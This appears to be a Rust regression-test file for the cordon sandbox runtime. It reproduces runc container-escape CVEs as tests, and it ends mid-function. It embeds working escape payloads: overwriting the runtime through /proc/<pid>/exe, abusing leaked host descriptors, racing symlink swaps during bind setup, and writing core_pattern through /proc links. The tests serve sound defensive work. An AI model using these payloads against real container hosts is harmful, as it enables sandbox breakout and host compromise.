//! The escape classes behind runc's CVEs, as regression tests against cordon's own setup:
//! hostile code in the sandbox attacks the way each CVE did, and the host is checked from
//! outside afterwards (the runtime binary's bytes, host directories, `core_pattern`).
//!
//! - CVE-2019-5736: overwriting the runtime through `/proc/<pid>/exe` of a runtime process the
//!   sandbox can see — the sandbox's init, and the runtime binary run *inside* the sandbox by a
//!   `#!/proc/self/exe` script that an exec in a persistent sandbox starts.
//! - CVE-2024-21626: a descriptor or working directory of the host leaked into the sandbox
//!   (`/proc/self/fd/N`, `/proc/<pid>/cwd`, `openat` on a leaked directory, `fchdir`).
//! - CVE-2021-30465: a sandbox-writable path swapped for a symlink (`RENAME_EXCHANGE`, in a
//!   loop) while cordon sets up a bind below it (the mount point's side), and a bind source
//!   swapped between the server's check against `--docker-bind-root` and the mount (the
//!   source's side).
//! - CVE-2025-31133 / -52565 / -52881: an image root whose `/dev/null`, `/dev/console`, `/dev`
//!   and mount points are links to `/proc` files, so that cordon's mounts would land on kernel
//!   knobs: `core_pattern` and `sysrq-trigger` must never become writable.
//!
//! Root and rootless: scripts/test.sh runs this suite as an unprivileged user too. busybox and
//! umoci come from scripts/test.sh's apt list; without them the image tests skip (fail in CI).
//!
//! Each test fails against a weakened build (the source patched locally, the test run, the
//! patch reverted), so it is known to test what it names. Two found real holes, fixed with
//! them (they failed on the code before the fix, root and rootless):
//! - `a_bind_target_swapped_for_a_symlink_during_setup_stays_inside_the_root`: before the fix
//!   a bind was made, then remounted read-only *by path*; the swap made the remount land on
//!   `/tmp` and the `--ro` bind stayed writable (a run wrote through it: run 30 as root, 54
//!   rootless). Fixed in
//!   `mounts::bind`: the flags go on a detached copy before it is attached on the descriptor.
//! - `a_bind_source_swapped_for_a_link_after_its_check_is_never_mounted`: before the fix the
//!   checked path was opened again following links; a container read the secret of a host
//!   directory outside the bind roots (container 6 as root, 2 and 3 rootless). Fixed: a server's
//!   bind sources are opened with no link followed (`sys::open_unlinked_path`).
//!
//! The others, weakened:
//! - `the_sandbox_init_never_hands_out_the_runtime_binary`: `sys::set_dumpable(false)` in
//!   `init::init_entry` made `set_dumpable(true)` → `/proc/1/exe` answered, failed (root and
//!   rootless).
//! - `a_proc_self_exe_script_run_by_an_exec_cannot_write_the_runtime`: Landlock not applied in
//!   `init::confine` → rootless, the runtime (the user's own copy) ran inside and the watcher
//!   chmod'ed it through `/proc/<pid>/exe` (1753 times), failed. As root what holds is that the
//!   sandbox is never host root (the installed runtime is root's): a handle on it is had, a
//!   write or chmod is not.
//! - `no_host_descriptor_or_working_directory_reaches_a_run` and
//!   `no_descriptor_of_the_server_reaches_a_persistent_sandbox`: both of the init's layers
//!   removed (`sys::close_fds_except` and `sys::cloexec_from(3)`; either alone still holds)
//!   → the payload had fds 3, 10, 77, 78… (the host directory, the host's `/`), both failed
//!   (root and rootless).
//! - `image_links_from_dev_and_mount_points_to_proc_never_unmask_kernel_knobs`:
//!   `mounts::build_proc`'s read-only binds of `sys`, `sysrq-trigger`… skipped → a write to
//!   `core_pattern` through the image's `/tmp -> /proc/sys/kernel` answered EACCES (only its
//!   owner held), failed (root and rootless).

mod common;
mod serve;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use common::*;
use serde_json::{json, Value};

/// Whether two files hold the same bytes (the runtime binary is ~200 MB: compared in chunks).
fn same_bytes(a: &Path, b: &Path) -> bool {
    let open = |p: &Path| std::fs::File::open(p).expect("open for comparing");
    let (mut fa, mut fb) = (open(a), open(b));
    let (mut ba, mut bb) = (vec![0u8; 1 << 20], vec![0u8; 1 << 20]);
    loop {
        let na = read_full(&mut fa, &mut ba);
        let nb = read_full(&mut fb, &mut bb);
        if na != nb || ba[..na] != bb[..nb] {
            return false;
        }
        if na == 0 {
            return true;
        }
    }
}

fn read_full(f: &mut std::fs::File, buf: &mut [u8]) -> usize {
    let mut n = 0;
    while n < buf.len() {
        match f.read(&mut buf[n..]).expect("read") {
            0 => break,
            k => n += k,
        }
    }
    n
}

/// A copy of the cordon binary at `path` that anyone may write (mode 0777): only the sandbox,
/// never the file's permissions, is to keep it intact. Waits until it can be executed (a
/// concurrently forked child of another test thread may hold it open for writing a moment).
fn writable_runtime(path: &Path) {
    std::fs::copy(cordon_bin(), path).expect("copy cordon");
    set_mode(path, 0o777);
    let f = Cmd::new(path).arg("--version").run();
    assert_eq!(f.code, Some(0), "the copy of cordon does not run: {f:?}");
}

/// The copy of the runtime is the binary the test started it as, byte for byte.
fn assert_runtime_intact(copy: &Path) {
    assert!(
        same_bytes(copy, Path::new(cordon_bin())),
        "the runtime binary {} was written from inside the sandbox",
        copy.display()
    );
}

/// A payload (Python, after [`PRELUDE`]) that opens `/proc/<pid>/exe` of every process it can
/// see, in every mode, and for what it got, reopens it through `/proc/self/fd/N` for writing
/// and writes: CVE-2019-5736's steps. `R["exe"][pid]` says what each attempt answered.
const EXE_ATTACK: &str = r#"
def attack(pid):
    e = "/proc/%s/exe" % pid
    r = {}
    try:
        r["link"] = os.readlink(e)
    except OSError as x:
        r["link"] = x.errno
    for name, fl in [("path", os.O_PATH), ("read", os.O_RDONLY), ("write", os.O_WRONLY), ("rdwr", os.O_RDWR)]:
        try:
            fd = os.open(e, fl)
        except OSError as x:
            r[name] = x.errno
            continue
        r[name] = "ok"
        if name in ("write", "rdwr"):
            r[name + "_wrote"] = t(os.pwrite, fd, b"\x7fPWNED", 0)
        else:
            for n2, f2 in [("reopen_write", os.O_WRONLY), ("reopen_rdwr", os.O_RDWR)]:
                try:
                    fd2 = os.open("/proc/self/fd/%d" % fd, f2)
                except OSError as x:
                    r[n2] = x.errno
                    continue
                r[n2] = "ok"
                r[n2 + "_wrote"] = t(os.pwrite, fd2, b"\x7fPWNED", 0)
        os.close(fd)
    return r
"#;

/// The write attempts of one [`EXE_ATTACK`] report that succeeded.
fn writes_that_worked(r: &Value) -> Vec<String> {
    ["write", "rdwr", "reopen_write", "reopen_rdwr"]
        .iter()
        .filter(|k| r[**k] == "ok")
        .map(|k| k.to_string())
        .collect()
}

// ---------------------------------------------------------------------------------------------
// CVE-2019-5736

#[test]
fn the_sandbox_init_never_hands_out_the_runtime_binary() {
    let dir = HostDir::new("exe");
    let runtime = dir.join("cordon");
    writable_runtime(&runtime);
    let marker = unique("py");
    let code = format!(
        "{PRELUDE}\n{EXE_ATTACK}\nR['exe'] = {{p: attack(p) for p in os.listdir('/proc') if p.isdigit()}}\n\
         R['self'] = attack('self')\nR['direct'] = t(os.open, {path:?}, os.O_WRONLY)\nout()\n",
        path = runtime.to_str().expect("utf-8 path"),
    );
    let o = Cmd::new(&runtime)
        .counts_as_cordon()
        .args(["run", "--json", "--", "python3", "-c", &code, &marker])
        .run()
        .outcome();
    assert_no_process_with(&marker, Duration::from_secs(3));
    o.assert_ok();
    let d = o.data();
    // The init is the runtime binary (cloned, not exec'd): not a handle of it in any mode.
    let init = &d["exe"]["1"];
    for k in ["link", "path", "read", "write", "rdwr"] {
        assert_eq!(
            init[k],
            libc::EACCES,
            "/proc/1/exe ({k}) is the runtime binary and must be refused:\n{o}"
        );
    }
    let mut worked = Vec::new();
    for (pid, r) in d["exe"].as_object().expect("exe").iter() {
        for w in writes_that_worked(r) {
            worked.push(format!("/proc/{pid}/exe {w}: {r}"));
        }
    }
    for w in writes_that_worked(&d["self"]) {
        worked.push(format!("/proc/self/exe {w}"));
    }
    assert!(
        worked.is_empty(),
        "written from the sandbox: {worked:?}\n{o}"
    );
    // Not at its host path either: the host's tree is not in the sandbox.
    assert_eq!(d["direct"], libc::ENOENT, "{o}");
    assert_runtime_intact(&runtime);
}

/// The watcher of [`a_proc_self_exe_script_run_by_an_exec_cannot_write_the_runtime`]: until
/// `/workspace/stop` appears, it attacks every process of the sandbox whose `exe` is not a
/// Python or a shell (the runtime, while it runs inside), and counts what each step answered.
const WATCHER: &str = r#"
import json, os, time
me = os.getpid()
seen = {}
answers = {}
def note(k, v):
    answers.setdefault(k, {})
    answers[k][str(v)] = answers[k].get(str(v), 0) + 1
deadline = time.time() + 60
while not os.path.exists("/workspace/stop") and time.time() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        e = "/proc/%s/exe" % p
        try:
            link = os.readlink(e)
        except OSError as x:
            note("readlink", x.errno)
            continue
        if "python" in link or link.endswith("/sh") or link.endswith("/dash") or link.endswith("/bash"):
            continue
        seen[link] = seen.get(link, 0) + 1
        try:
            fd = os.open(e, os.O_PATH)
        except OSError as x:
            note("open_path", x.errno)
            fd = None
        if fd is not None:
            note("open_path", "ok")
            try:
                os.chmod("/proc/self/fd/%d" % fd, 0o700)
                note("chmod", "ok")
            except OSError as x:
                note("chmod", x.errno)
            for name, fl in [("reopen_write", os.O_WRONLY), ("reopen_rdwr", os.O_RDWR)]:
                try:
                    w = os.open("/proc/self/fd/%d" % fd, fl)
                    note(name, "ok")
                    try:
                        os.pwrite(w, b"\x7fPWNED", 0)
                        note("wrote", "ok")
                    except OSError as x:
                        note("wrote", x.errno)
                    os.close(w)
                except OSError as x:
                    note(name, x.errno)
            os.close(fd)
        try:
            w = os.open(e, os.O_WRONLY)
            note("open_write", "ok")
            os.close(w)
        except OSError as x:
            note("open_write", x.errno)
with open("/workspace/report.json", "w") as f:
    json.dump({"seen": seen, "answers": answers}, f)
"#;

/// CVE-2019-5736 itself: the sandbox leaves a `#!/proc/self/exe` script for a later exec, so
/// that the kernel runs the *runtime's* binary inside the sandbox, where a watcher grabs it
/// through `/proc/<pid>/exe` and reopens it for writing. As root the runtime is an installed
/// copy in /usr/local/bin (readable and executable inside, as an installed cordon is: it does
/// run there); rootless, a copy the user owns outside the system directories (as
/// `~/.cargo/bin/cordon`), which Landlock keeps from running inside at all. Either way the
/// copy is world-writable: the sandbox's host uid (never host root) may not change its mode,
/// and it is never written.
#[test]
fn a_proc_self_exe_script_run_by_an_exec_cannot_write_the_runtime() {
    let dir = HostDir::new("exe-serve");
    let runtime = if is_root() {
        PathBuf::from("/usr/local/bin").join(unique("cordon"))
    } else {
        dir.join("cordon")
    };
    struct Remove(PathBuf);
    impl Drop for Remove {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let _remove = Remove(runtime.clone());
    writable_runtime(&runtime);
    let mut cmd = std::process::Command::new(&runtime);
    cmd.args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(dir.join("data"));
    let srv = serve::Server::start_command(cmd, dir.join("data"));
    let (st, sb) = srv.call("POST", "/v1/sandboxes", Some(json!({"ttl": "5m"})));
    assert_eq!(st, 201, "create: {sb}");
    let id = sb["id"].as_str().expect("id").to_string();
    let exec = |body: Value| {
        let (st, o) = srv.call("POST", &format!("/v1/sandboxes/{id}/exec"), Some(body));
        assert_eq!(st, 200, "exec: {o}");
        o
    };
    let setup = format!(
        "open('/workspace/evil', 'w').write('#!/proc/self/exe\\n'); os.chmod('/workspace/evil', 0o755); \
         open('/workspace/watch.py', 'w').write({WATCHER:?})"
    );
    let o = exec(json!({"cmd": ["python3", "-c", format!("import os; {setup}")]}));
    assert_eq!(o["exit_code"], 0, "setup: {o}");
    let (st, bg) = srv.call(
        "POST",
        &format!("/v1/sandboxes/{id}/exec"),
        Some(json!({"cmd": ["python3", "/workspace/watch.py"], "background": true})),
    );
    assert_eq!(st, 202, "background exec: {bg}");
    let cid = bg["command_id"]
        .as_str()
        .unwrap_or_else(|| panic!("no command id: {bg}"))
        .to_string();
    std::thread::sleep(Duration::from_millis(300));
    // The honest client runs the script the sandbox left, again and again.
    let mut ran_inside = 0;
    let mut last = Value::Null;
    for _ in 0..30 {
        let o = exec(json!({"cmd": ["/workspace/evil"]}));
        if o["stderr"].as_str().unwrap_or("").contains("Usage:") {
            ran_inside += 1;
        }
        last = o;
    }
    let o = exec(json!({"cmd": ["python3", "-c", "open('/workspace/stop', 'w')"]}));
    assert_eq!(o["exit_code"], 0, "{o}");
    let (st, w) = srv.call(
        "POST",
        &format!("/v1/sandboxes/{id}/commands/{cid}/wait?timeout=30s"),
        None,
    );
    assert_eq!(st, 200, "wait: {w}");
    let o = exec(json!({"cmd": ["cat", "/workspace/report.json"]}));
    let report: Value = serde_json::from_str(o["stdout"].as_str().unwrap_or(""))
        .unwrap_or_else(|e| panic!("no watcher report ({e}): {o}"));
    let answers = &report["answers"];
    // A handle (O_PATH, read) on an installed runtime that runs inside is the kernel's to give
    // (the process is the sandbox's own, dumpable); what it must never give is a change.
    let mut bad = Vec::new();
    for k in [
        "reopen_write",
        "reopen_rdwr",
        "open_write",
        "wrote",
        "chmod",
    ] {
        if let Some(n) = answers[k]["ok"].as_u64() {
            bad.push(format!("{k} ×{n}"));
        }
    }
    assert!(
        bad.is_empty(),
        "the runtime run inside the sandbox ({ran_inside} times) was changed: {bad:?}\n\
         report: {report}\nlast exec: {last}"
    );
    let (st, v) = srv.call("DELETE", &format!("/v1/sandboxes/{id}"), None);
    assert!(st == 200 || st == 204, "delete: {st} {v}");
    drop(srv);
    assert_runtime_intact(&runtime);
    let mode = std::fs::metadata(&runtime).expect("stat").permissions();
    assert_eq!(
        std::os::unix::fs::PermissionsExt::mode(&mode) & 0o7777,
        0o777,
        "the runtime's mode changed"
    );
    if is_root() {
        // The case is real: the installed runtime did run inside the sandbox.
        assert!(ran_inside > 0, "the script never ran the runtime: {last}");
    }
}

// ---------------------------------------------------------------------------------------------
// CVE-2024-21626

/// A payload that looks for any way out through a descriptor or working directory: every fd
/// of every visible process, `cwd` links, `fchdir` into each fd and `..` from there, `openat`
/// relative to each; wherever it gets a directory it creates `NAME` there and a level up (in
/// the sandbox's own directories that works, and is harmless: the host is checked outside).
const FD_ATTACK: &str = r#"
NAME = sys.argv[2]
made = []
def plant(d):
    for rel in [NAME, "../" + NAME, "../../" + NAME]:
        try:
            fd = os.open(rel, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=d)
            os.close(fd)
            made.append(rel)
        except (OSError, TypeError):
            pass
links = {}
for p in [x for x in os.listdir("/proc") if x.isdigit()] + ["self"]:
    for k in ["cwd", "root"]:
        try:
            links["%s/%s" % (p, k)] = os.readlink("/proc/%s/%s" % (p, k))
        except OSError as e:
            links["%s/%s" % (p, k)] = e.errno
    try:
        for f in os.listdir("/proc/%s/fd" % p):
            try:
                links["%s/fd/%s" % (p, f)] = os.readlink("/proc/%s/fd/%s" % (p, f))
            except OSError:
                pass
    except OSError:
        pass
R["links"] = links
R["open_fds"] = [n for n in range(1024) if t(os.fstat, n) == "ok"]
for n in range(3, 1024):
    if t(os.fstat, n) == "ok":
        plant(n)
        try:
            os.chdir("/proc/self/fd/%d" % n)
            plant(os.open(".", os.O_RDONLY | os.O_DIRECTORY))
        except OSError:
            pass
for p in ["/proc/self/cwd", "/proc/1/cwd", "/proc/1/root"]:
    try:
        os.chdir(p)
        plant(os.open(".", os.O_RDONLY | os.O_DIRECTORY))
    except OSError:
        pass
os.chdir("/")
R["getcwd"] = os.getcwd()
R["made"] = made
out()
"#;

/// Where `name` was created under `dirs` (searched two levels deep).
fn planted_in(dirs: &[&Path], name: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for d in dirs {
        for cand in [d.join(name), d.join("..").join(name)] {
            if cand.exists() {
                found.push(cand);
            }
        }
        if let Ok(rd) = std::fs::read_dir(d) {
            for e in rd.flatten() {
                if e.path().join(name).exists() {
                    found.push(e.path().join(name));
                }
            }
        }
    }
    found
}

/// `runc run`'s leak: the runtime's working directory and descriptors (a host directory, the
/// host's `/`, the cgroup hierarchy's root — what runc leaked) handed to cordon as a careless
/// embedding program would. None reaches the payload, and nothing is made on the host.
#[test]
fn no_host_descriptor_or_working_directory_reaches_a_run() {
    let dir = HostDir::new("cwd");
    set_mode(&dir.path, 0o777);
    let token = unique("token");
    dir.file("secret.txt", &token, 0o644);
    let name = unique("planted");
    let host_dir = std::fs::File::open(&dir.path).expect("open");
    let host_root = std::fs::File::open("/").expect("open /");
    let cgroup = std::fs::File::open("/sys/fs/cgroup").expect("open /sys/fs/cgroup");
    let marker = unique("py");
    let code = format!("{PRELUDE}\n{FD_ATTACK}");
    let mut cmd = Cmd::cordon()
        .leak_fd(&host_dir, 77)
        .leak_fd(&host_root, 78)
        .leak_fd(&cgroup, 79)
        .args([
            "run", "--json", "--", "python3", "-c", &code, &marker, &name,
        ])
        .command();
    // The runtime's own working directory is the host directory.
    cmd.current_dir(&dir.path);
    let out = cmd.output().expect("run cordon");
    let o = Finished {
        pid: 0,
        code: out.status.code(),
        signal: None,
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        elapsed: Duration::ZERO,
    }
    .outcome();
    assert_no_process_with(&marker, Duration::from_secs(3));
    o.assert_ok();
    let d = o.data();
    assert_eq!(d["open_fds"], json!([0, 1, 2]), "{o}");
    assert_eq!(d["getcwd"], "/", "{o}");
    let text = d["links"].to_string();
    for host in [dir.str(), "/sys/fs/cgroup"] {
        assert!(!text.contains(host), "{host} is reachable inside:\n{o}");
    }
    assert!(!o.stdout().contains(&token), "{o}");
    let found = planted_in(
        &[&dir.path, Path::new("/"), Path::new("/sys/fs/cgroup")],
        &name,
    );
    assert!(found.is_empty(), "made on the host: {found:?}\n{o}");
}

/// `runc exec`'s leak, over cordon's persistent sandboxes: the server runs from a host
/// directory with host descriptors leaked to it; an exec, a background exec and a shell's
/// `cd` into the descriptors find nothing of the host.
#[test]
fn no_descriptor_of_the_server_reaches_a_persistent_sandbox() {
    let dir = HostDir::new("cwd-serve");
    set_mode(&dir.path, 0o777);
    let token = unique("token");
    dir.file("secret.txt", &token, 0o644);
    let name = unique("planted");
    let host_dir = std::fs::File::open(&dir.path).expect("open");
    let host_root = std::fs::File::open("/").expect("open /");
    let data = dir.join("data");
    let mut cmd = Cmd::cordon()
        .leak_fd(&host_dir, 77)
        .leak_fd(&host_root, 78)
        .args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(&data)
        .command();
    cmd.current_dir(&dir.path);
    let srv = serve::Server::start_command(cmd, data.clone());
    let (st, sb) = srv.call("POST", "/v1/sandboxes", Some(json!({"ttl": "5m"})));
    assert_eq!(st, 201, "create: {sb}");
    let id = sb["id"].as_str().expect("id").to_string();
    let code = format!("{PRELUDE}\n{FD_ATTACK}");
    let (st, bg) = srv.call(
        "POST",
        &format!("/v1/sandboxes/{id}/exec"),
        Some(json!({"cmd": ["sleep", "30"], "background": true})),
    );
    assert_eq!(st, 202, "{bg}");
    let (st, o) = srv.call(
        "POST",
        &format!("/v1/sandboxes/{id}/exec"),
        Some(json!({"cmd": ["python3", "-c", code, "x", name]})),
    );
    assert_eq!(st, 200, "{o}");
    let d: Value = o["stdout"]
        .as_str()
        .and_then(|s| s.lines().last())
        .and_then(|l| serde_json::from_str(l).ok())
        .unwrap_or_else(|| panic!("no report: {o}"));
    assert_eq!(d["open_fds"], json!([0, 1, 2]), "{o}");
    let text = d["links"].to_string();
    assert!(
        !text.contains(dir.str()),
        "the host directory is reachable: {d}"
    );
    let (st, o) = srv.call(
        "POST",
        &format!("/v1/sandboxes/{id}/exec"),
        Some(json!({"cmd": format!(
            "for n in $(ls /proc/*/fd/ 2>/dev/null | grep -E '^[0-9]+$' | sort -u); do \
               (cd /proc/self/fd/$n 2>/dev/null && touch ./{name} ../{name} 2>/dev/null); done; \
             cat /proc/*/fd/*/secret.txt 2>/dev/null; pwd"
        )})),
    );
    assert_eq!(st, 200, "{o}");
    assert!(!o["stdout"].as_str().unwrap_or("").contains(&token), "{o}");
    let (st, v) = srv.call("DELETE", &format!("/v1/sandboxes/{id}"), None);
    assert!(st == 200 || st == 204, "delete: {st} {v}");
    drop(srv);
    let found = planted_in(&[&dir.path, Path::new("/")], &name);
    assert!(found.is_empty(), "made on the host: {found:?}");
}

// ---------------------------------------------------------------------------------------------
// CVE-2021-30465

/// A sandbox on a shared workspace exchanges a directory with links (to the root, and to a
/// host directory through `/oldroot`) in a loop (`renameat2(RENAME_EXCHANGE)`), while runs on
/// the same workspace bind a host directory read-only *below* that path and try to write
/// through it: whichever the build meets, the bind and the directories made for it stay
/// inside the new root, the host directory the link names stays empty, and the read-only
/// bind is never left writable (its remount never lands on another mount).
#[test]
fn a_bind_target_swapped_for_a_symlink_during_setup_stays_inside_the_root() {
    let shared = HostDir::new("swap");
    set_mode(&shared.path, 0o777);
    let ws = shared.join("ws");
    std::fs::create_dir(&ws).expect("mkdir ws");
    set_mode(&ws, 0o777);
    // The victim: a host directory anyone may write (as /tmp), that must stay empty.
    let victim = shared.join("victim");
    std::fs::create_dir(&victim).expect("mkdir victim");
    set_mode(&victim, 0o1777);
    let src = HostDir::new("swap-src");
    src.file("from-src", "src\n", 0o644);
    // Anyone may write it: only the bind's read-only flag keeps the sandbox out.
    set_mode(&src.path, 0o777);
    let renameat2 = if cfg!(target_arch = "aarch64") {
        276
    } else {
        316
    };
    let victim_s = victim.to_str().expect("utf-8");
    // Absolutely through /oldroot, and by `..` from the workspace.
    let swapper = format!(
        r#"
import time
os.mkdir("/workspace/d")
os.symlink("/", "/workspace/l1")
os.symlink("../../../../../../../../../oldroot{victim_s}", "/workspace/l2")
open("/workspace/ready", "w").close()
n = 0
end = time.time() + 25
while time.time() < end and not os.path.exists("/workspace/stop"):
    for l in (b"/workspace/l1", b"/workspace/l2"):
        for _ in range(200):
            sc({renameat2}, -100, S(b"/workspace/d"), -100, S(l), 2)
            n += 1
R["swaps"] = n
out()
"#
    );
    let ws_s = ws.to_str().expect("utf-8").to_string();
    let attacker = {
        let ws_s = ws_s.clone();
        std::thread::spawn(move || {
            py_cmd(
                Cmd::cordon().deadline(Duration::from_secs(60)),
                &["--workspace", &ws_s],
                &swapper,
            )
        })
    };
    let start = Instant::now();
    while !ws.join("ready").exists() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "the swapper never started"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // The bind's last name is also a mount point of the root's (`/tmp`): through `l1` the
    // path names that mount instead.
    let bind = format!("{}:/workspace/d/tmp", src.str());
    let write_all =
        "for n in d l1 l2; do echo pwned > /workspace/$n/tmp/pwned-$n; done 2>/dev/null; true";
    let mut runs = 0;
    let mut failures = Vec::new();
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(12) {
        let f = Cmd::cordon()
            .args(["run", "--json", "--workspace", &ws_s, "--ro", &bind, "--"])
            .args(["/bin/sh", "-c", write_all])
            .run();
        runs += 1;
        // The bind landed where the build put it (inside the root), or setup failed on the
        // moving path: both are fine. Anything else is not.
        if serde_json::from_str::<Value>(f.stdout.trim()).is_err()
            && !f.stderr.contains("sandbox setup failed")
        {
            failures.push(format!("{f:?}"));
        }
        assert_eq!(
            planted(&src.path),
            ["from-src"],
            "run {runs} wrote through its read-only bind"
        );
        let left = planted(&victim);
        assert!(
            left.is_empty(),
            "run {runs} made {left:?} in the host directory the swapped link names"
        );
    }
    std::fs::write(ws.join("stop"), "").expect("stop");
    let o = attacker.join().expect("the attacker's thread");
    o.assert_ok();
    assert!(o.data()["swaps"].as_u64().unwrap_or(0) > 0, "{o}");
    assert!(failures.is_empty(), "{failures:?}");
    assert!(planted(&victim).is_empty());
    assert_eq!(planted(&src.path), ["from-src"], "the bind source changed");
}

fn planted(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .expect("the directory is still there")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

// ---------------------------------------------------------------------------------------------
// CVE-2025-31133 / CVE-2025-52565 / CVE-2025-52881

fn busybox() -> Option<PathBuf> {
    let found = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .map(|d| d.join("busybox"))
        .find(|p| p.is_file());
    if found.is_none() {
        if std::env::var("CI").is_ok_and(|v| v == "true") {
            panic!("busybox is not installed (scripts/test.sh installs it)");
        }
        eprintln!("SKIPPED: busybox is not installed");
    }
    found
}

/// Plain-directory image roots (busybox) whose `/dev/null`, `/dev/console`, `/dev` itself and
/// the scratch mount points are links to `/proc` files and directories: runc's masked-path and
/// `/dev/console` bind races redirected its mounts onto `/proc/sys/kernel/core_pattern` and
/// `/proc/sysrq-trigger`. Inside, every write to a kernel knob answers EROFS (or ENOENT), never
/// a plain permission error that only file ownership gave; outside, `core_pattern` is unchanged.
#[test]
fn image_links_from_dev_and_mount_points_to_proc_never_unmask_kernel_knobs() {
    let Some(bb) = busybox() else { return };
    let core_before = std::fs::read_to_string("/proc/sys/kernel/core_pattern").ok();
    let variants: &[&[(&str, &str)]] = &[
        &[
            ("dev/null", "/proc/sys/kernel/core_pattern"),
            ("dev/console", "/proc/sysrq-trigger"),
            ("dev/ptmx", "/proc/sys/kernel/core_pattern"),
            ("tmp", "/proc/sys/kernel"),
            ("workspace", "/proc"),
        ],
        &[("dev", "/proc/sys/kernel"), ("home", "/proc/sys")],
        &[
            ("dev", "../proc"),
            ("proc/sys/kernel/core_pattern", "/dev/null"),
        ],
        &[("proc", "/dev"), ("dev/null", "/proc/sysrq-trigger")],
    ];
    // Writes to every name the links make and to the knobs themselves; each prints the path
    // and the shell's error (busybox: "can't create P: <strerror>").
    let script = r#"
for p in /dev/null /dev/console /dev/core_pattern /dev/kernel/core_pattern /tmp/core_pattern \
         /workspace/sys/kernel/core_pattern /workspace/sysrq-trigger /home/kernel/core_pattern \
         /proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/kernel/hostname; do
  if [ -e "$p" ] || [ -L "$p" ]; then
    r=$( (echo '|/bin/false cordon-pwned' > "$p") 2>&1 ) && r=ok
    echo "$p => $(/bin/busybox readlink -f "$p") => $r"
  fi
done
/bin/busybox cat /proc/sys/kernel/core_pattern
"#;
    for (i, links) in variants.iter().enumerate() {
        let root = HostDir::new("img");
        std::fs::create_dir_all(root.join("bin")).expect("mkdir");
        std::fs::copy(&bb, root.join("bin/busybox")).expect("copy busybox");
        std::os::unix::fs::symlink("busybox", root.join("bin/sh")).expect("symlink");
        for (path, target) in *links {
            let at = root.join(path);
            std::fs::create_dir_all(at.parent().expect("parent")).expect("mkdir");
            std::os::unix::fs::symlink(target, &at).expect("plant link");
        }
        let f = Cmd::cordon()
            .args([
                "run",
                "--json",
                "--image",
                root.str(),
                "--",
                "/bin/sh",
                "-c",
                script,
            ])
            .run();
        let o: Value = serde_json::from_str(f.stdout.trim())
            .unwrap_or_else(|e| panic!("variant {i}: no Outcome ({e}): {f:?}"));
        let out = o["stdout"].as_str().unwrap_or("");
        // A variant whose links leave cordon no place for a mount may fail its setup: that is
        // refusing, not escaping. One that ran must have refused every write to a knob.
        if o["status"] == "exited" {
            for line in out.lines().filter(|l| l.contains(" => ")) {
                let knob = line.contains("core_pattern")
                    || line.contains("sysrq-trigger")
                    || line.contains("hostname");
                if !knob {
                    continue;
                }
                assert!(
                    !line.ends_with("=> ok") && !line.contains("Permission denied"),
                    "variant {i} ({links:?}): a kernel knob was writable, or only its owner \
                     kept it: {line}\n{o:#}"
                );
            }
        }
        assert_eq!(
            std::fs::read_to_string("/proc/sys/kernel/core_pattern").ok(),
            core_before,
            "variant {i}: the host's core_pattern changed\n{o:#}"
        );
    }
}

/// A busybox image (`localhost/oci:t`) imported into the store at `data`, built with umoci.
fn import_busybox(dir: &Path, data: &Path, bb: &Path) {
    let oci = dir.join("oci");
    let bundle = dir.join("bundle");
    let layout = format!("{}:t", oci.display());
    let ok = |c: &mut std::process::Command| {
        let out = c.output().unwrap_or_else(|e| panic!("{c:?}: {e}"));
        assert!(
            out.status.success(),
            "{c:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    let cmd = std::process::Command::new;
    ok(cmd("umoci").arg("init").arg("--layout").arg(&oci));
    ok(cmd("umoci").args(["new", "--image", &layout]));
    ok(cmd("umoci")
        .args(["unpack", "--rootless", "--image", &layout])
        .arg(&bundle));
    let rootfs = bundle.join("rootfs");
    std::fs::create_dir_all(rootfs.join("bin")).expect("mkdir");
    std::fs::copy(bb, rootfs.join("bin/busybox")).expect("copy busybox");
    std::os::unix::fs::symlink("busybox", rootfs.join("bin/sh")).expect("symlink");
    ok(cmd("umoci")
        .args(["repack", "--refresh-bundle", "--image", &layout])
        .arg(&bundle));
    let f = Cmd::cordon()
        .args(["image", "import"])
        .arg(&oci)
        .args(["--json", "--data-dir"])
        .arg(data)
        .run();
    assert_eq!(f.code, Some(0), "import: {f:?}");
}

/// One HTTP/1.0 request to the Docker door on loopback: (status, body as JSON or text).
fn docker(port: u16, key: &str, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
    let r = ureq::request(method, &format!("http://127.0.0.1:{port}{path}"))
        .set("Authorization", &format!("Bearer {key}"))
        .timeout(Duration::from_secs(60));
    let res = match body {
        Some(b) => r.send_json(b),
        None => r.call(),
    };
    let resp = match res {
        Ok(r) => r,
        Err(ureq::Error::Status(_, r)) => r,
        Err(e) => panic!("{method} {path}: {e}"),
    };
    let status = resp.status();
    let text = resp.into_string().unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// CVE-2021-30465, the bind source's side of the race, through the Docker door's `Binds` (checked against
/// `--docker-bind-root`): a sandbox with the allowed root's directory as its workspace
/// exchanges `d` with a link out of the root (to a host directory with a secret) in a loop,
/// while containers bind `d`. The check sees either the directory (allowed) or the link
/// (outside the roots: refused); what is mounted must be what was checked — never the host
/// directory the link names, which stays as it was and whose secret never shows.
#[test]
fn a_bind_source_swapped_for_a_link_after_its_check_is_never_mounted() {
    let Some(bb) = busybox() else { return };
    let has_umoci = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .any(|d| d.join("umoci").is_file());
